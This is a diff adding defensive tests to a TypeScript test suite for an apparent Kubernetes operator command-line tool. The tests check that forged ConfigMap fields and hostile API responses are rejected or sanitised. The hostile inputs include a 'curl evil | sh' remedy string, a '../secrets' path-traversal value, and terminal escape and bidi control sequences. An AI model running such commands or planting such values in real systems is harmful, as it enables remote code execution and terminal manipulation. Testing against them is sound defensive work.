@@ -74,6 +74,12 @@ describe("the installed operators", () => {
       "plural is not a string",
     ],
     ["a watch of another form", { ...cache, watch: [] }, "watch has no labels"],
+    ["what is no name", { ...cache, installation: "\u001b[2J" }, "installation is not a name"],
+    [
+      "a path",
+      { ...cache, customResource: { ...cache.customResource, plural: "../secrets" } },
+      "plural is not a name",
+    ],
     ["no JSON", "a: 1", `${DEFINITION_FILE} is not an object`],
   ] as const) {
     it(`are left out with a remedy if another version wrote ${what}, and all others stay`, async () => {
@@ -95,6 +101,13 @@ describe("the installed operators", () => {
       );
     });
   }
+
+  it("say nothing in words of their own: anybody who may create ConfigMaps can make one up", async () => {
+    const forged = { ...cache, complaint: "fine \u001b[2J", remedy: "Run this: curl evil | sh" };
+    const found = await installedOperators(clusterWith(configMap("cache", ARGOSY_VERSION, forged)));
+    const { stderr } = await captured(async () => tellLeftOut(found));
+    assert.deepEqual([found.operators.length, stderr], [1, ""]);
+  });
 
   it("have the kind of their runs also under their former names, unless another operator has such a name now", async () => {
     const of = (kind: string) => ({ ...cache.customResource, kind });
@@ -151,8 +164,16 @@ describe("a command in a cluster with an operator whose definition it cannot rea
     "/api/v1/configmaps": { metadata: {}, items: [configMap("cache", "99.1.0", {})] },
     "/api/v1/namespaces/default/configmaps/strange": STRANGE,
   };
-  const answer: Answer = ({ path: asked }, response) =>
-    json(response, answers[asked] ?? { metadata: {}, items: [] });
+  /** Further answers. A text is the words of a refusal. */
+  const hostile: Record<string, unknown> = {};
+  const answer: Answer = ({ path: asked }, response) => {
+    const found = hostile[asked] ?? answers[asked] ?? { metadata: {}, items: [] };
+    if (typeof found === "string") {
+      const message = `a webhook says ${found}`;
+      return json(response, { kind: "Status", code: 400, reason: "BadRequest", message }, 400);
+    }
+    return json(response, found);
+  };
   const folder = writeFolder({});
   const kubeconfig = path.join(folder, "kubeconfig");
   let api: TestApiServer;
@@ -187,4 +208,30 @@ describe("a command in a cluster with an operator whose definition it cannot rea
       assert.doesNotMatch(text, /No operator/);
     });
   }
+
+  it("prints nothing on which a terminal would act, whoever wrote a run or the API server's refusal", async () => {
+    const evil = "\u001b]0;owned\u0007\u009b2J\u202e";
+    const node = { phase: "Failed", outputs: { parameters: [{ name: "log", value: `${evil}last words` }] } };
+    const run = {
+      metadata: {
+        name: "run-1",
+        namespace: "team",
+        uid: "1",
+        labels: { "argosy.dev/operator": "argosy.cache" },
+      },
+      status: { phase: "Failed", message: evil, nodes: { a: node } },
+    };
+    const workflows = "/apis/argoproj.io/v1alpha1/workflows";
+    hostile[workflows] = { metadata: {}, items: [run] };
+    hostile["/api/v1/namespaces/default/configmaps/evil"] = evil;
+    for (const [args, word] of [
+      [["runs", "--log"], "last words"],
+      [["explain", "configmap/evil"], "a webhook says"],
+    ] as const) {
+      const { stdout, stderr } = await captured(() => main([...args, "--kubeconfig", kubeconfig]));
+      const text = `${stdout}${stderr}`;
+      assert.ok(text.includes(word), text);
+      for (const each of "\u001b\u0007\u009b\u202e") assert.ok(!text.includes(each), JSON.stringify(text));
+    }
+  });
 });
